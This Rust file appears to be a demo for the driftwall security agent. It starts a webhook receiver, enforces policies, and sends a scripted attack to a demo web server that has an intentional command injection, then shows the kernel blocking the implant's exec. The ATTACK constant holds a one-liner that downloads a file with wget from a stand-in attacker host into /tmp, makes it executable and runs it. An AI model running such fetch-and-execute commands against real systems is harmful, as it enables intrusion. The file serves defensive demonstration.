//! Guest side of the demo (`scripts/demo`): the example policy repository (`policies/`,
//! copied to /etc/driftwall/policies) enforced by the real agent, which also picks up
//! the repository's `notify.yaml` and sends each drift to Debian's `webhook` server
//! running in the guest. Then a short attack story:
//!
//! 1. the demo web service (`/opt/demo/bin/web-server`, in cgroup /demo/web) listens on
//!    :8080 and has a command injection: it runs what a client sends with `/bin/sh -c`;
//! 2. an attacker connects and sends a one-liner: the shell downloads an implant with
//!    `wget` from the attacker's HTTP server into /tmp, makes it executable and runs it;
//! 3. the kernel refuses that exec with EPERM (the Cedar rule `no-exec-from-tmp`), the
//!    agent prints the block and its Flashback (the chain web server → shell → …), and
//!    the signed notification arrives at the receiver, which shows it as it got it.
//!
//! Narrates on the console and reports one result (`demo_block_shown`) so the host
//! knows the demo worked.
use std::{
    io::{BufRead, BufReader, Read, Write},
    net::TcpStream,
    os::unix::fs::PermissionsExt,
    process::{Command, Stdio},
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
        mpsc,
    },
    time::{Duration, Instant},
};

use driftwall_testbed::{
    Reporter,
    guest::{CGROUP_ROOT, spawn_in_cgroup},
};

const POLICIES: &str = "/etc/driftwall/policies";
/// Where the receiver's command writes what it received.
const RECEIVED: &str = "/run/received";
const RECEIVER_PORT: u16 = 9000;
/// The demo's signing secrets, one per target of policies/notify.yaml.
const SECRETS: [(&str, &str, &str); 3] = [
    (
        "driftwall",
        "DRIFTWALL_WEBHOOK_SECRET",
        "demo-webhook-secret-0123456789",
    ),
    (
        "slack",
        "DRIFTWALL_SLACK_SECRET",
        "demo-slack-secret-0123456789",
    ),
    (
        "events",
        "DRIFTWALL_EVENTS_SECRET",
        "demo-events-secret-0123456789",
    ),
];
/// The attacker's one-liner, sent to the web server's command injection.
const ATTACK: &str =
    "cd /tmp && wget -q -O implant http://127.0.0.1:8000/implant && chmod +x implant && ./implant";

fn say(text: &str) {
    println!("\x1b[1;36m[demo]\x1b[0m {text}");
}

fn main() {
    let mut reporter = match Reporter::open() {
        Ok(r) => r,
        Err(e) => {
            eprintln!("dw-guest-demo: {e}");
            std::process::exit(2);
        }
    };
    let _ = reporter.run("demo_block_shown", demo);
    let _ = reporter.finish();
}

fn io(what: &str) -> impl Fn(std::io::Error) -> String + '_ {
    move |e| format!("{what}: {e}")
}

/// Starts Debian's `webhook` with one hook per target of policies/notify.yaml, each
/// verifying its own secret with a `payload-hmac-sha256` rule and recording the
/// headers and body it received.
fn start_receiver() -> Result<std::process::Child, String> {
    std::fs::create_dir_all(RECEIVED).map_err(io(RECEIVED))?;
    let record = "/etc/driftwall/receiver/record.sh";
    std::fs::create_dir_all("/etc/driftwall/receiver").map_err(io("receiver dir"))?;
    // $1: the hook, $2: the headers (JSON), $3: the body (JSON); written aside and
    // renamed, so the demo never reads half a file.
    std::fs::write(
        record,
        format!(
            "#!/bin/sh\nprintf '%s\\n%s\\n' \"$2\" \"$3\" > {RECEIVED}/.$$ && mv {RECEIVED}/.$$ {RECEIVED}/$1-$$.txt\n"
        ),
    )
    .map_err(io(record))?;
    std::fs::set_permissions(record, std::fs::Permissions::from_mode(0o755)).map_err(io(record))?;
    let hooks: Vec<serde_json::Value> = SECRETS
        .iter()
        .map(|(id, _, secret)| {
            serde_json::json!({
                "id": id,
                "execute-command": record,
                "pass-arguments-to-command": [
                    {"source": "string", "name": id},
                    {"source": "entire-headers"},
                    {"source": "entire-payload"}
                ],
                "trigger-rule-mismatch-http-response-code": 401,
                "trigger-rule": {"match": {
                    "type": "payload-hmac-sha256",
                    "secret": secret,
                    "parameter": {"source": "header", "name": "X-Driftwall-Signature-256"}
                }}
            })
        })
        .collect();
    let hooks_path = "/etc/driftwall/receiver/hooks.json";
    std::fs::write(hooks_path, serde_json::Value::from(hooks).to_string())
        .map_err(io(hooks_path))?;
    let child = Command::new("/bin/webhook")
        .args(["-hooks", hooks_path, "-ip", "127.0.0.1"])
        .args(["-port", &RECEIVER_PORT.to_string()])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .map_err(io("starting webhook"))?;
    let deadline = Instant::now() + Duration::from_secs(60);
    while TcpStream::connect(("127.0.0.1", RECEIVER_PORT)).is_err() {
        if Instant::now() > deadline {
            return Err("webhook did not start listening".into());
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    Ok(child)
}

/// What the receiver recorded for `hook`: (headers, body), once there.
fn received(
    hook: &str,
    timeout: Duration,
) -> Result<(serde_json::Value, serde_json::Value), String> {
    let deadline = Instant::now() + timeout;
    loop {
        let found = std::fs::read_dir(RECEIVED)
            .map_err(io(RECEIVED))?
            .filter_map(Result::ok)
            .find(|e| {
                e.file_name()
                    .to_string_lossy()
                    .starts_with(&format!("{hook}-"))
            });
        if let Some(entry) = found {
            let text = std::fs::read_to_string(entry.path()).map_err(io("recorded notice"))?;
            let mut lines = text.lines();
            let parse = |l: Option<&str>| {
                serde_json::from_str::<serde_json::Value>(l.unwrap_or_default())
                    .map_err(|e| format!("recorded {hook} notice: {e}"))
            };
            return Ok((parse(lines.next())?, parse(lines.next())?));
        }
        if Instant::now() > deadline {
            return Err(format!("the receiver got nothing on /hooks/{hook}"));
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn demo() -> Result<String, String> {
    let kernel = std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap_or_default();
    let lsm = std::fs::read_to_string("/sys/kernel/security/lsm").unwrap_or_default();
    say(&format!(
        "guest kernel {}, active LSMs: {}",
        kernel.trim(),
        lsm.trim()
    ));
    // The guest has no host name ("(none)"); notifications name the node.
    let host = b"demo-node";
    // SAFETY: a plain syscall reading `host.len()` bytes of a live buffer.
    if unsafe { libc::sethostname(host.as_ptr().cast(), host.len()) } != 0 {
        return Err(format!("sethostname: {}", std::io::Error::last_os_error()));
    }
    std::fs::create_dir_all(format!("{CGROUP_ROOT}/demo/web")).map_err(io("cgroup"))?;
    std::fs::create_dir_all("/opt/demo/bin").map_err(io("/opt/demo/bin"))?;
    for p in ["/opt/demo/bin/web-server", "/opt/demo/bin/healthcheck"] {
        std::fs::copy("/bin/dw-probe", p).map_err(io(p))?;
    }
    // The attacker's side: an HTTP server with the implant (any program will do).
    std::fs::create_dir_all("/srv/attacker").map_err(io("/srv/attacker"))?;
    std::fs::copy("/bin/dw-probe", "/srv/attacker/implant").map_err(io("implant"))?;
    let _attacker_http = Command::new("/bin/httpd")
        .args(["-f", "-p", "127.0.0.1:8000", "-h", "/srv/attacker"])
        .spawn()
        .map_err(io("starting the attacker's httpd"))?;

    say(&format!(
        "a local receiver: Debian's `webhook` on 127.0.0.1:{RECEIVER_PORT}, checking each \
         request's HMAC-SHA256 signature (payload-hmac-sha256 rule)"
    ));
    let mut receiver = start_receiver()?;

    say(&format!(
        "enforcing {POLICIES}: `driftwall run --policies {POLICIES} --on-exit detach` (it \
         picks up {POLICIES}/notify.yaml: three webhook targets)"
    ));
    let mut agent = Command::new("/bin/driftwall")
        .args(["run", "--policies", POLICIES, "--on-exit", "detach"])
        .envs(SECRETS.iter().map(|(_, var, secret)| (*var, *secret)))
        .env(
            "DRIFTWALL_SLACK_URL",
            format!("http://127.0.0.1:{RECEIVER_PORT}/hooks/slack"),
        )
        .env("NO_COLOR", "1")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(io("starting driftwall"))?;
    let stdout = agent.stdout.take().ok_or("no agent stdout")?;
    let stderr = agent.stderr.take().ok_or("no agent stderr")?;
    let (tx, rx) = mpsc::channel::<String>();
    let warnings = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&warnings);
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            // The ready line lists the policy's warnings: counted, not shown.
            if line.starts_with("warning: ") {
                counted.fetch_add(1, Ordering::Relaxed);
                continue;
            }
            println!("  \x1b[1;33mdriftwall |\x1b[0m {line}");
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    std::thread::spawn(move || {
        // The agent's log: the same warnings again at start-up (hidden), then what it
        // says about notifications.
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            if line.contains("notif") || line.contains("deliver") || line.contains("ERROR") {
                println!("  \x1b[2mdriftwall log | {}\x1b[0m", line.trim());
            }
        }
    });
    let wait_line = |pred: &dyn Fn(&str) -> bool| -> Result<String, String> {
        loop {
            match rx.recv_timeout(Duration::from_secs(120)) {
                Ok(line) if pred(&line) => return Ok(line),
                Ok(_) => continue,
                Err(e) => return Err(format!("waiting for the agent: {e}")),
            }
        }
    };
    wait_line(&|l| l.starts_with("ready:"))?;
    std::thread::sleep(Duration::from_millis(300));
    let warnings = warnings.load(Ordering::Relaxed);
    say(&format!(
        "the policy is in force ({warnings} policy warnings about the example workloads not \
         shown: `driftwall check policies` lists them)"
    ));

    say("the web service starts: /opt/demo/bin/web-server listens on :8080 (its profile");
    say("allows the server, its health check and /bin/sh; Cedar lets it listen on 8080).");
    let server = std::thread::spawn(|| {
        spawn_in_cgroup(
            "demo/web",
            &["/opt/demo/bin/web-server", "serve", "0.0.0.0:8080"],
            true,
        )
    });
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut conn = loop {
        match TcpStream::connect("127.0.0.1:8080") {
            Ok(c) => break c,
            Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(100)),
            Err(e) => return Err(format!("the web server is not listening: {e}")),
        }
    };
    say("an attacker connects to :8080 and abuses its command injection:");
    println!("  attacker> {ATTACK}");
    conn.write_all(format!("{ATTACK}\n").as_bytes())
        .map_err(io("sending the attack"))?;
    let mut answer = String::new();
    let _ = conn.read_to_string(&mut answer);
    for l in answer.lines() {
        println!("  attacker< {l}");
    }
    let server = server
        .join()
        .map_err(|_| "the web server thread panicked")??;
    let event = wait_line(&|l| l.contains(" DENY exec ") && l.contains("/tmp/implant"))?;
    wait_line(&|l| l.starts_with("Flashback at"))?;
    // Let the rest of the tree print before narrating on.
    std::thread::sleep(Duration::from_millis(300));
    if server.outcome.is_err() {
        return Err(format!("the web server did not run: {server:?}"));
    }
    let refused = answer.contains("denied") || answer.contains("not permitted");
    if !std::path::Path::new("/tmp/implant").exists() || !refused {
        return Err(format!(
            "expected the download to land in /tmp and its exec to be refused; the attacker saw: {answer:?}"
        ));
    }
    say("the download worked (busybox is one file: /bin/sh in the profile admits wget too),");
    say("but the kernel refused to run /tmp/implant with EPERM: nothing ran. The agent");
    say("printed the block (rule no-exec-from-tmp) and its Flashback, the chain above.");

    // The same story later, as an operator asks for it: by the pid and time the block
    // line gave, from the context graph over the agent's API socket.
    let time = event.split_whitespace().next().unwrap_or_default();
    let pid = event
        .split_whitespace()
        .find_map(|t| t.strip_prefix("pid="))
        .ok_or_else(|| format!("no pid in the block line {event:?}"))?;
    say(&format!(
        "the same story from the command line, as an operator would ask for it later: \
         `driftwall flashback --pid {pid} --at {time}`"
    ));
    let story = Command::new("/bin/driftwall")
        .args(["flashback", "--pid", pid, "--at", time])
        .env("NO_COLOR", "1")
        .output()
        .map_err(io("driftwall flashback"))?;
    let text = String::from_utf8_lossy(&story.stdout);
    for l in text.lines() {
        println!("  \x1b[1;36mflashback |\x1b[0m {l}");
    }
    for needle in [
        "DENY exec /tmp/implant",
        "inbound: ",
        "/opt/demo/bin/web-server",
    ] {
        if !story.status.success() || !text.contains(needle) {
            return Err(format!(
                "`driftwall flashback` does not tell the story ({needle:?} missing, {}): {text}{}",
                story.status,
                String::from_utf8_lossy(&story.stderr)
            ));
        }
    }

    say("the notification, as the receiver got it (webhook ran its command, so the");
    say("signature checked out with the secret it shares with the agent; the compact");
    say("body is pretty-printed here):");
    let (headers, body) = received("driftwall", Duration::from_secs(60))?;
    let mut names: Vec<(&String, &serde_json::Value)> = headers
        .as_object()
        .map(|h| h.iter().collect())
        .unwrap_or_default();
    names.sort_by_key(|(k, _)| k.to_ascii_lowercase());
    println!("  POST /hooks/driftwall HTTP/1.1");
    for (k, v) in names {
        let v = v
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|x| x.as_str())
                    .collect::<Vec<_>>()
                    .join(", ")
            })
            .or_else(|| v.as_str().map(String::from))
            .unwrap_or_else(|| v.to_string());
        println!("  {k}: {v}");
    }
    println!();
    let pretty = serde_json::to_string_pretty(&body).map_err(|e| e.to_string())?;
    for l in pretty.lines() {
        println!("  {l}");
    }
    let notice = &body["notice"];
    if notice["event"]["exe"] != "/tmp/implant" || notice["workload"] != "demo-web" {
        return Err(format!("the notification is not about the block: {body}"));
    }
    let (_, slack) = received("slack", Duration::from_secs(30))?;
    say(&format!(
        "the Slack-style target got: {}",
        slack["text"].as_str().unwrap_or("(no text)")
    ));
    let (_, cloudevent) = received("events", Duration::from_secs(30))?;
    say(&format!(
        "the CloudEvents target got event {} of type {}",
        cloudevent["id"].as_str().unwrap_or("?"),
        cloudevent["type"].as_str().unwrap_or("?")
    ));

    // SAFETY: signalling our own child.
    unsafe { libc::kill(agent.id() as i32, libc::SIGTERM) };
    let status = agent.wait().map_err(|e| e.to_string())?;
    let _ = receiver.kill();
    let _ = receiver.wait();
    say(&format!(
        "agent stopped on SIGTERM ({status}); programs detached."
    ));
    Ok(event)
}
